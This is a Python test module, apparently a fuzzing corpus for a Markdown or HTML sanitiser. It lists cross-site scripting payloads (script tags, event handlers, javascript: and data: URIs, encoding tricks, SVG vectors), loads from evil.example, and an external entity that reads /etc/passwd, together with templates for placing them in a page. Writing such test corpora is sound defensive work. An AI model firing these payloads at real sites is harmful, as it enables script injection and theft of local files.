"""Ways to get something live into a page that have worked somewhere, and the places to put them."""

from __future__ import annotations

HTML = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>", '<img src="x" OnErRoR="alert(1)">', "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>", "<p onclick=alert(1)>x</p>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<x onclick=alert(1)>x</x>",
    "<https://evil.example onmouseover=alert(1)>", "<mailto:a@b.example onclick=alert(1) x>",
    "<a@b.example onclick=alert(1)>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>", "</div></main><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<portal src=javascript:alert(1)>",
    "<isindex action=javascript:alert(1)>", "<table background=javascript:alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>", "<bgsound src=javascript:alert(1)>",
    "<a id=main></a><form id=contact><input name=attributes>", "<details/open/ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<\tscript>alert(1)</script>", "< script >alert(1)</ script >", "<​script>alert(1)</script>",
)  # fmt: skip
# Where in a page a text may stand.
PLACES = {
    "paragraph": "{}",
    "in a sentence": "Xem {} nhé.",
    "list": "- một\n- {}",
    "quote": "> {}",
    "heading": "## {}",
    "nested list": "1. một\n\n    - {}",
    "table": "| a | b |\n|---|---|\n| {} | 2 |",
    "footnote": "Chữ.[^1]\n\n[^1]: {}",
    "definition": "từ\n:   {}",
    "link text": "[{}](../index.md)",
    "escaped backticks": "\\`{}\\`",
    "backticks that do not close": "`` {} `",
    "indented fence": "  ```\n{}\n  ```",
    "fence that does not close": "```\n{}",
    "after a link's start": "](({}",
    "link title": '[a](../index.md "{}")',
    "image words": "![{}](../../assets/so-do.svg)",
    "reference title": '[a][b]\n\n[b]: ../index.md "{}"',
}
# Texts that stay texts in these.
CODE = {
    "code": "`{}`",
    "fence": "```\n{}\n```",
    "named fence": "```html\n{}\n```",
    "indented code": "    {}",
}

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#115;cript:alert(1)", "java&#x73;cript:alert(1)",
    "&#106;&#97;vascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "\tjavascript:alert(1)",
    "java\tscript:alert(1)", "javascript://%0aalert(1)", "javascript:/*x*/alert(1)", "java%73cript:alert(1)",
    "%6aavascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x", "file:///etc/passwd", "blob:https://x/1", "filesystem:https://x/1", "view-source:https://x",
    "intent://x#Intent;end", "livescript:x", "mocha:x", "jar:https://x!/y", "feed:javascript:alert(1)",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https:/\\evil.example",
    "http://user:pw@evil.example/", "ftp://evil.example/", "ws://evil.example/", "about:blank", "chrome://settings",
)  # fmt: skip
LINKS = {
    "link": "[a]({})", "link in brackets": "[a](<{}>)", "on the next line": "[a](\n{})",
    "reference": "[a][b]\n\n[b]: {}", "reference in brackets": "[a][b]\n\n[b]: <{}>", "autolink": "<{}>",
    "image": "![a]({})", "image reference": "![a][b]\n\n[b]: {}", "by braces": "[a](../index.md){{href={}}}",
}  # fmt: skip

BRACES = (
    "onclick=alert(1)", 'onclick="alert(1)"', "ONCLICK=alert(1)", "onmouseover='alert(1)'", "style=color:red",
    'style="position:fixed;inset:0"', "href=javascript:alert(1)", "src=javascript:alert(1)", "formaction=x",
    "srcset=//evil.example/x", "srcdoc=x", "class=site-nav", ".share", ".skip-link", "data-share=copy", "autofocus=1",
    "tabindex=1", "contenteditable=true", "hidden=1", "is=x", "slot=x", "target=_blank", "ping=//evil.example",
    "download=x", "xmlns=x", "xlink:href=javascript:alert(1)", "usemap=#x", "background=x", "name=attributes",
    "id='a b'", "lang='\"><script>'", "accesskey=x", "role=alert", "aria-label=x", "itemprop=x",
)  # fmt: skip
BEFORE_BRACES = {
    "emphasis": "*a*{{{}}}", "colon": "*a*{{: {} }}", "heading": "## Tiêu đề {{{}}}", "link": "[a](../index.md){{{}}}",
    "image": "![a](../../assets/so-do.svg){{{}}}", "paragraph": "Chữ.\n{{: {} }}", "item": "- a\n{{: {} }}",
    "cell": "| a | b |\n|---|---|\n| a {{: {} }} | b |", "fence": "```{{ .yaml {} }}\na\n```",
}  # fmt: skip

DRAWINGS = (
    "<script>alert(1)</script>", "<script xlink:href='//evil.example'/>", "<g onload='alert(1)'/>", "<path onclick='x' d=''/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
    "<image href='https://evil.example/a.png'/>", "<image xlink:href='data:image/png;base64,AA'/>", "<use href='khac.svg#a'/>",
    "<use href='data:image/svg+xml,x#a'/>", "<a href='javascript:alert(1)'><text>a</text></a>", "<a xlink:href='https://evil.example'/>",
    "<animate attributeName='href' to='javascript:alert(1)'/>", "<set attributeName='onload' to='alert(1)'/>",
    "<style>@import url(//evil.example)</style>", "<style>*{background:url(//evil.example)}</style>",
    "<style>*{background:\\75rl(//evil.example)}</style>", "<path style='fill:url(//evil.example)' d=''/>",
    "<path fill='url(https://evil.example#a)' d=''/>", "<path fill='URL( //evil.example )' d=''/>", "<path style='x:expression(alert(1))' d=''/>",
    "<filter id='a'><feImage href='//evil.example'/></filter>", "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>", "<handler xmlns='http://www.w3.org/2001/xml-events'/>",
    "<metadata><x/></metadata>", "<audio src='x'/>", "<video src='x'/>", "<svg><script/></svg>", "<?xml-stylesheet href='x'?>",
    "<text>&#60;</text><script/>", "<cursor href='x'/>", "<discard/>", "<mpath href='#a'/>", "<unknown/>", "<g data-x='1'/>",
    "<g xml:base='//evil.example'/>", "<g systemLanguage='x' requiredExtensions='x'/>", "<text><tspan onfocus='x'>a</tspan></text>",
)  # fmt: skip
